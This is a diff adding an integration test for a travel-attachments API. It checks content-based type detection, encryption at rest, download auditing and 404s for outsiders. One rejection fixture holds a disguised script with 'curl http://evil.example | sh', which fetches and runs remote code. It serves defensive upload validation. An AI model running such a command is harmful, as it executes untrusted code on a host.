@@ -149,6 +149,62 @@ forEachEngine('travel cases', (engine) => {
     assert.deepEqual(audits.map((a) => a.cpr), ['false', 'true']);
   });
 
+  it('attachments: a photo by its magic bytes, encrypted at rest (not in a dump in plain form), each download audited; a renamed script refused; outsiders 404', async () => {
+    const png = Buffer.concat([Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64'), Buffer.from('SKJOLD-FOTO-MARKOER-7731')]);
+    const multipart = async (parts: Record<string, string | { name: string; type: string; data: Buffer }>) => {
+      const form = new FormData();
+      for (const [k, v] of Object.entries(parts)) {
+        if (typeof v === 'string') form.append(k, v);
+        else form.append(k, new Blob([new Uint8Array(v.data)], { type: v.type }), v.name);
+      }
+      const req = new Request('http://x/', { method: 'POST', body: form });
+      return { payload: Buffer.from(await req.arrayBuffer()), headers: { 'content-type': req.headers.get('content-type')! } };
+    };
+    const upload = async (client: Client, parts: Parameters<typeof multipart>[0]) =>
+      client.request({ method: 'POST', url: `/api/cases/${caseId}/travel/attachments`, ...(await multipart(parts)) });
+
+    const ok = await upload(p.konsClient, { kind: 'FOTO', file: { name: 'sara.png', type: 'application/octet-stream', data: png } });
+    assert.equal(ok.statusCode, 201, ok.body);
+    assert.equal(ok.json().mimeType, 'image/png', 'the type comes from the content, not the client');
+
+    const script = await upload(p.konsClient, { kind: 'FOTO', file: { name: 'foto.jpg', type: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n') } });
+    assert.equal(script.statusCode, 400, script.body);
+    assert.ok(script.json().error.details.some((d: { path: string }) => d.path === 'body.file'));
+    const badKind = await upload(p.konsClient, { kind: 'SELFIE', file: { name: 'a.png', type: 'image/png', data: png } });
+    assert.equal(badKind.statusCode, 400);
+    assert.ok(badKind.json().error.details.some((d: { path: string }) => d.path === 'body.kind'));
+    const big = await upload(p.konsClient, { kind: 'PASKOPI', file: { name: 'pas.pdf', type: 'application/pdf', data: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(10 * 1024 * 1024)]) } });
+    assert.equal(big.statusCode, 400, big.body);
+    assert.equal((await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM travel_attachments WHERE case_id = ${caseId}`))[0]!.n, 1, 'only the photo is stored');
+
+    // Not in the database in plain form: neither the bytes' marker nor the file as base64, in any table.
+    const tables = await queryRows<{ table_name: string }>(t.ctx.db, sql`SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'`);
+    const needles = ['SKJOLD-FOTO-MARKOER-7731', png.toString('base64').slice(0, 40), 'sara.png'];
+    for (const { table_name } of tables) {
+      for (const { t: row } of await queryRows<{ t: string }>(t.ctx.db, sql.raw(`SELECT t::text AS t FROM "${table_name}" t`))) {
+        for (const n of needles) assert.ok(!row.includes(n), `${table_name} holds ${n.slice(0, 12)}… in the clear`);
+      }
+    }
+
+    const listed = await p.cwClient.get(`/api/cases/${caseId}/travel/attachments`);
+    assert.equal(listed.statusCode, 200);
+    assert.equal(listed.json().items[0].fileName, 'sara.png');
+    const fid = ok.json().id;
+    const got = await p.cwClient.get(`/api/cases/${caseId}/travel/attachments/${fid}`);
+    assert.equal(got.statusCode, 200);
+    assert.equal(got.headers['content-type'], 'image/png');
+    assert.ok(got.rawPayload.equals(png));
+    const reads = await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM audit_events WHERE event_type = 'travel.attachment_read' AND subject_id = ${fid}`);
+    assert.equal(reads[0]!.n, 1);
+
+    assert.equal((await outsider.get(`/api/cases/${caseId}/travel/attachments/${fid}`)).statusCode, 404);
+    assert.equal((await outsider.get(`/api/cases/${caseId}/travel/attachments`)).statusCode, 404);
+    assert.equal((await upload(outsider, { kind: 'FOTO', file: { name: 'a.png', type: 'image/png', data: png } })).statusCode, 404);
+    // Another case's attachment id under this case is a 404 too.
+    const other = await coordinationCase(t.ctx, p);
+    assert.equal((await p.konsClient.get(`/api/cases/${other.id}/travel/attachments/${fid}`)).statusCode, 404);
+  });
+
   it('answers 404 to an outsider on every travel route, as for a missing case', async () => {
     const contact = (await p.konsClient.get(`/api/cases/${caseId}/travel/contacts`)).json().items[0].id;
     const calls: [string, string, unknown?][] = [
